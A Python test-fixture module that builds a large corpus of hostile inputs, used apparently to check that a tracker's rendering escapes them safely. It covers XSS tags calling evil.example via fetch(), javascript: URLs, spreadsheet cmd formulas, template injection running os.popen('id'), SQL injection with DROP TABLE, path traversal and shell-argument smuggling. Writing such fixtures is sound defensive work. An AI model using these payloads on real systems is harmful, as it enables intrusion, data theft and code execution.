"""What a hostile source could write, for every place that its words are written to: some five hundred payloads, in
families by what they try. Each names `MARK` where it would do something, so that a test can look for that. Knows
nothing of the tracker.
"""

from __future__ import annotations

import itertools
from collections.abc import Mapping

MARK = "pwned"
"""Stands in what a payload would load, run or call."""

HOST = "evil.example"

_SCRIPT = f"fetch('//{HOST}/{MARK}')"

_EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onstart", "onpageshow"),
    *("onanimationstart", "onpointerenter", "onbeforeinput", "onscroll", "onhashchange", "onmessage", "onwheel"),
)
_ELEMENTS = (
    f"<script>{_SCRIPT}</script>",
    f"<script src=//{HOST}/{MARK}.js></script>",
    f"<ScRiPt>{_SCRIPT}</sCrIpT>",
    f"<scr<script>ipt>{_SCRIPT}</script>",
    f"<script/x>{_SCRIPT}</script>",
    f"<script\n>{_SCRIPT}</script\n>",
    f"<svg><script>{_SCRIPT}</script></svg>",
    f"<svg/onload={_SCRIPT}>",
    f"<math><mtext><style><img src onerror={_SCRIPT}></style></mtext></math>",
    f"<img src=//{HOST}/{MARK}.png>",
    f"<img src=x onerror={_SCRIPT}>",
    f"<image href=//{HOST}/{MARK}.png>",
    f"<video><source onerror={_SCRIPT}></video>",
    f"<audio src=//{HOST}/{MARK}.ogg autoplay>",
    f"<iframe src=//{HOST}/{MARK}></iframe>",
    f"<iframe srcdoc='<script>{_SCRIPT}</script>'>",
    f"<object data=//{HOST}/{MARK}></object>",
    f"<embed src=//{HOST}/{MARK}>",
    f"<link rel=stylesheet href=//{HOST}/{MARK}.css>",
    f"<style>@import'//{HOST}/{MARK}.css';</style>",
    f"<style>*{{background:url(//{HOST}/{MARK})}}</style>",
    f"<base href=//{HOST}/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/{MARK}'>",
    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\"><script>{_SCRIPT}</script>",
    f"<form action=//{HOST}/{MARK}><button>x</button></form>",
    f"<input autofocus onfocus={_SCRIPT}>",
    f"<details open ontoggle={_SCRIPT}>",
    f"<marquee onstart={_SCRIPT}>",
    f"<body onpageshow={_SCRIPT}>",
    f"<table background=//{HOST}/{MARK}.png>",
    f"<a href=javascript:{_SCRIPT}>x</a>",
    f"<a href=//{HOST}/{MARK} ping=//{HOST}/{MARK}>x</a>",
    f"<template><script>{_SCRIPT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_SCRIPT}>'>",
    f"<textarea></textarea><script>{_SCRIPT}</script>",
    f"<xmp><script>{_SCRIPT}</script></xmp>",
    f"<plaintext><script>{_SCRIPT}</script>",
    f"<portal src=//{HOST}/{MARK}></portal>",
    f"<isindex action=//{HOST}/{MARK} type=image>",
    f"<keygen autofocus onfocus={_SCRIPT}>",
)
_BREAKS = (
    *("", '"', "'", "`", ">", '">', "'>", "-->", "--!>", "]]>", "</title>", "</style>", "</textarea>", "</script>"),
    *(
        "</blockquote></article></main>",
        "</del></ins>",
        "</bdi></p>",
        '" ',
        "' ",
        "<!--",
        "<![CDATA[",
        "<?xml?>",
        "&quot;>",
    ),
    *("&#34;&gt;", "\\u003e", "%22%3e", "＜", "\x00", "\u202e", "\ufeff", "+ADw-"),
)


def _html() -> list[str]:
    found = list(_ELEMENTS)
    found += [f"{before}{_ELEMENTS[number % 12]}" for number, before in enumerate(_BREAKS) if before]
    found += [f'" {event}="{_SCRIPT}" x="' for event in _EVENTS]
    found += [f"' {event}='{_SCRIPT}' x='" for event in _EVENTS]
    found += [f"<x {event}={_SCRIPT} tabindex=1>" for event in _EVENTS]
    found += [
        f"{_ELEMENTS[0].replace('<', written)}" for written in ("&lt;", "&#60;", "&#x3c;", "\\x3c", "%3C", "﹤", "＜")
    ]
    return found


_URLS = (
    f"javascript:{_SCRIPT}",
    f"JaVaScRiPt:{_SCRIPT}",
    f"java\tscript:{_SCRIPT}",
    f"java\nscript:{_SCRIPT}",
    f"java&Tab;script:{_SCRIPT}",
    f"javascript&colon;{_SCRIPT}",
    f"&#106;avascript:{_SCRIPT}",
    f"\x01javascript:{_SCRIPT}",
    f"javascript://{HOST}/%0a{_SCRIPT}",
    f"data:text/html,<script>{_SCRIPT}</script>",
    f"data:text/html;base64,{MARK}",
    f"vbscript:msgbox('{MARK}')",
    f"file:///etc/{MARK}",
    f"blob:https://{HOST}/{MARK}",
    f"view-source:https://{HOST}/{MARK}",
    f"feed:javascript:{_SCRIPT}",
    f"https://{HOST}/{MARK}",
    f"HTTPS://{HOST}/{MARK}",
    f"http://{HOST}:80/{MARK}?a=b#c",
    f"https://user:pass@{HOST}/{MARK}",
    f"https:\\\\{HOST}\\{MARK}",
    f"//{HOST}/{MARK}",
    f'https://{HOST}/"><script>{_SCRIPT}</script>',
    f"https://{HOST}/' onmouseover='{_SCRIPT}",
    f"https://{HOST}/)](javascript:{MARK})",
    f"https://{HOST}/{MARK}>)|x**y__z`w",
    f"https://{HOST}/\r\nX-Evil: {MARK}",
    f"https://{HOST}/\u202egnp.{MARK}",
    f"https://еvil.example/{MARK}",
    f"www.{HOST}/{MARK}",
    f"{HOST}/{MARK}",
    f"президент.укр/{MARK}",
    f"{MARK}@{HOST}",
    f"mailto:{MARK}@{HOST}",
    "tel:+380441234567",
    "sms:+380441234567",
    f"tg://resolve?domain={MARK}",
    f"t.me/{MARK}",
    f"slack://channel?team={MARK}",
    f"magnet:?xt={MARK}",
    f"bitcoin:{MARK}",
    f"geo:50.45,30.52?q={MARK}",
    f"skype:{MARK}?call",
    f"xmpp:{MARK}@{HOST}",
    f"matrix:u/{MARK}:{HOST}",
    f"callto:{MARK}",
    f"facetime:{MARK}",
    f"ftp://{HOST}/{MARK}",
    f"ms-word:ofe|u|https://{HOST}/{MARK}",
    f"intent://{HOST}/#Intent;scheme=https;package={MARK};end",
)

_MARKDOWN = (
    f"[{MARK}](https://{HOST}/)",
    f"[{MARK}](<https://{HOST}/> 'title')",
    f"[{MARK}][ref]\n\n[ref]: https://{HOST}/",
    f"[ref]: https://{HOST}/{MARK}",
    f"![{MARK}](https://{HOST}/{MARK}.png)",
    f"[![x](https://{HOST}/{MARK}.png)](https://{HOST}/)",
    f"<https://{HOST}/{MARK}>",
    f"<{MARK}@{HOST}>",
    f"https://{HOST}/{MARK}",
    f"[x](javascript:{MARK})",
    f"**{MARK}**",
    f"__{MARK}__",
    f"*{MARK}*",
    f"_{MARK}_",
    f"***{MARK}***",
    f"~~{MARK}~~",
    f"~{MARK}~",
    f"||{MARK}||",
    f"`{MARK}`",
    f"``` {MARK} ```",
    f"```\n{MARK}\n```",
    f"~~~\n{MARK}\n~~~",
    f"    {MARK} in code",
    f"# {MARK}",
    f"###### {MARK}",
    f"{MARK}\n===",
    f"{MARK}\n---",
    f"---\n{MARK}",
    "***",
    "* * *",
    f"> {MARK}",
    f">>> {MARK}",
    f"- {MARK}",
    f"+ {MARK}",
    f"* {MARK}",
    f"1. {MARK}",
    f"1) {MARK}",
    f"- [x] {MARK}",
    f"| {MARK} | x |\n|---|---|\n| a | b |",
    f"{MARK}[^1]\n\n[^1]: note",
    f"$${MARK}$$",
    f"${MARK}$",
    f"<b>{MARK}</b>",
    f"<details><summary>{MARK}</summary>x</details>",
    f"<img src=https://{HOST}/{MARK}.png>",
    f"&lt;b&gt;{MARK}&lt;/b&gt;",
    f"\\*\\*{MARK}\\*\\*",
    f"\\\\**{MARK}**",
    f"\\[{MARK}](https://{HOST}/)",
    f"**\u200b{MARK}**",
    f"a  \n# {MARK}",
    f"a\r# {MARK}",
    f"a\u2028# {MARK}",
    f"a\x85# {MARK}",
    f"a\x0b# {MARK}",
    f"==={MARK}===",
    f"=={MARK}==",
    f"^{MARK}^",
    f":::{MARK}\nx\n:::",
    f"{{% include {MARK} %}}",
    f"@{MARK} #1 GH-1 {HOST}/x#1",
)

_CHAT = (
    *("@everyone", "@here", "@all", "@channel", "@room", "@online", f"@{MARK}", f"@{MARK}:{HOST}", "＠everyone"),
    *("<@123456789012345678>", "<@!123456789012345678>", "<@&123456789012345678>", "<#123456789012345678>"),
    *("<!everyone>", "<!here>", "<!channel>", "<!subteam^S123>", "<@U12345678>", "<#C12345678|general>"),
    *(f"<https://{HOST}/{MARK}|click>", f"<mailto:{MARK}@{HOST}|mail>", "<!date^1392734382^{date}|x>"),
    *(f"</{MARK}:123456789>", f"<:{MARK}:123456789>", f"<a:{MARK}:123456789>", "<t:1618953630:R>", f"<id:{MARK}>"),
    *(
        f":{MARK}:",
        ":bomb:",
        ":skin-tone-2:",
        f"#{MARK}",
        "#general",
        f"~{MARK}",
        f"/{MARK}",
        f"/start {MARK}",
        "!kick",
    ),
    *(
        "$USD",
        "$TSLA",
        f"%{MARK}",
        f"*{MARK}*",
        f"_{MARK}_",
        f"~{MARK}~",
        f"```{MARK}```",
        f"||{MARK}||",
        f"--{MARK}--",
    ),
    *(f"-# {MARK}", f"//{MARK}//", f"__{MARK}__", f"[b]{MARK}[/b]", f"[url=https://{HOST}]{MARK}[/url]"),
    *(f"<users/all> {MARK}", f"<https://{HOST}|{MARK}>", f"<a href='https://{HOST}'>{MARK}</a>", f"<at>{MARK}</at>"),
    *(f"<tg-spoiler>{MARK}</tg-spoiler>", f"<tg-emoji emoji-id='1'>{MARK}</tg-emoji>", f"<code>{MARK}</code>"),
    *(f"<b>{MARK}</b>", f"<pre>{MARK}", "</b></i></a>", "<", "&", "&amp;", "&nbsp;<b", f"<!-- {MARK}", "<![CDATA["),
    *(f"@**{MARK}**", f"#**{MARK}>topic**", f"@_**{MARK}**", f"@*{MARK}*", f"[{MARK}](<https://{HOST}>)"),
    *("\\n@everyone", "\\u0040everyone", "&#64;everyone", "@\u200beveryone @here", "@\u00adeveryone"),
)

_TERMINAL = (
    *(f"\x1b[31m{MARK}", f"\x1b[2J{MARK}", f"\x1b]0;{MARK}\x07", f"\x1b]8;;https://{HOST}\x1b\\{MARK}\x1b]8;;\x1b\\"),
    *(f"\x1b]52;c;{MARK}\x07", f"\x1bP{MARK}\x1b\\", f"\x1b_{MARK}\x1b\\", f"\x1b^{MARK}\x1b\\", f"\x1bX{MARK}\x1b\\"),
    *(f"\x1b[6n{MARK}", f"\x1b[5i{MARK}", f"\x1b[?1049h{MARK}", f"\x1b[8m{MARK}", f"\x1b[1A{MARK}", f"\x1b[K{MARK}"),
    *(f"\x1bc{MARK}", f"\x1b#8{MARK}", f"\x9b2J{MARK}", f"\x9d0;{MARK}\x9c", f"\x90{MARK}\x9c", f"\x84{MARK}"),
    *(f"\x07{MARK}", f"\x08\x08{MARK}", f"\x7f{MARK}", f"a\r{MARK}", f"a\r\n{MARK}", f"a\x0b{MARK}", f"a\x0c{MARK}"),
    *(f"a\x85{MARK}", f"a\u2028{MARK}", f"a\u2029{MARK}", f"\x00{MARK}", f"\x0e{MARK}\x0f", f"\x1a{MARK}", "\x05"),
    *(f"\u202e{MARK}", f"\u202d{MARK}\u202c", f"\u2066{MARK}", f"\u2067{MARK}\u2069", f"\u200f{MARK}", f"\u061c{MARK}"),
    *(f"\u200b{MARK}", f"\u00ad{MARK}", f"\u2060{MARK}", f"\ufeff{MARK}", f"\ufff9{MARK}\ufffb", f"\U000e0041{MARK}"),
    *(f"\ud800{MARK}", f"{MARK}\udfff", "\ufffe", "\U0010ffff", f"\u180e{MARK}", "\u0300" * 60, "\u3164", "\u115f"),
)

_FORMULAS = (
    *(
        f"{start}{what}"
        for start, what in itertools.product(
            (
                "=",
                "+",
                "-",
                "@",
                "\t=",
                "\r=",
                "\n=",
                " =",
                "＝",
                "＋",
                "－",
                "＠",
                "\u200b=",
                "\ufeff=",
                "\u00a0=",
                "'=",
                '"=',
            ),
            (f'HYPERLINK("https://{HOST}/{MARK}")', f"cmd|' /C calc'!{MARK}"),
        )
    ),
    *(
        f"-1+1|{MARK}",
        "=1+1",
        f'a",=cmd|{MARK}',
        f"a\n=cmd|{MARK}",
        f"a;=cmd|{MARK}",
        f"%0A=cmd|{MARK}",
        f"\x00=cmd|{MARK}",
    ),
)

_TEMPLATES = tuple(
    form.format(what)
    for form in (
        *(
            "{{{{{}}}}}",
            "${{{}}}",
            "#{{{}}}",
            "<%= {} %>",
            "{{% {} %}}",
            "{{{{={}}}}}",
            "@({})",
            "[[${{{}}}]]",
            "~{{{}}}",
        ),
        *("{{!{}}}", "{{php}}{}{{/php}}", "*{{{}}}", "%({})s", "{{0.{}}}", "`{}`", "$({})", "<# {} #>"),
    )
    for what in ("1313*7", "config", "''.__class__.__mro__", "self.__init__.__globals__.os.popen('id')")
)

_LINES = tuple(
    f"x{end}{line}"
    for end, line in itertools.product(
        ("\n", "\r\n", "\r", "\u2028"),
        (
            *(
                f"Bcc: {MARK}@{HOST}",
                f"X-Evil: {MARK}",
                f"Head: head1.9.{MARK}",
                f"Silent: {MARK}",
                "3 edits, head head9",
            ),
            *(
                f"2026-01-02T03:04:05Z error   {MARK}  source=forged",
                f"#99 MEANING CHANGED critical {MARK}",
                f"source={MARK}",
            ),
        ),
    )
)

_MARKS = (
    *(f"[-{MARK}-]", f"{{+{MARK}+}}", f"[-{MARK}", f"{MARK}-]", f"\\[-{MARK}-]", f"\\\\[-{MARK}-]", f"{{>{MARK}<}}"),
    *(f" … [9 more changed stretches] {MARK}", f"[1,234 characters] {MARK}", f"<U+202E>{MARK}", f"“{MARK}” → “{MARK}”"),
)

_QUERIES = (
    *(
        f"' OR '1'='1' -- {MARK}",
        f"'; DROP TABLE statement; -- {MARK}",
        f'" OR 1=1 -- {MARK}',
        f"') UNION SELECT '{MARK}'",
    ),
    *(
        "%",
        "_",
        "%_%",
        "\\%",
        f"{MARK}*",
        '"',
        "NEAR(a b)",
        "a AND",
        "(",
        "^a",
        f"col:{MARK}",
        "\x00",
        "%" * 2_000,
        "[a-",
        "?1",
        ":a",
    ),
)

_NAMES = (
    *(
        f"../{MARK}",
        f"../../etc/{MARK}",
        f"/etc/{MARK}",
        f"..\\{MARK}",
        f"C:\\{MARK}",
        f"\\\\{HOST}\\{MARK}",
        "CON",
        "NUL.txt",
    ),
    *(
        f"{MARK}\x00.txt",
        "a" * 300,
        f"-rf {MARK}",
        f"--output={MARK}",
        f"~{MARK}",
        f"$({MARK})",
        f"`{MARK}`",
        f"{MARK};id",
        ".",
    ),
    *(
        "..",
        "",
        " ",
        f"{MARK}/",
        f"{MARK}:stream",
        f"%2e%2e%2f{MARK}",
        f"\uff0e\uff0e\uff0f{MARK}",
        f"|{MARK}",
        f"*{MARK}?",
    ),
)

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "html": tuple(_html()),
    "urls": _URLS,
    "markdown": _MARKDOWN,
    "chat": _CHAT,
    "terminal": _TERMINAL,
    "formulas": _FORMULAS,
    "templates": _TEMPLATES,
    "lines": _LINES,
    "marks": _MARKS,
    "queries": _QUERIES,
    "names": _NAMES,
}

PAYLOADS = tuple(dict.fromkeys(itertools.chain(*FAMILIES.values())))
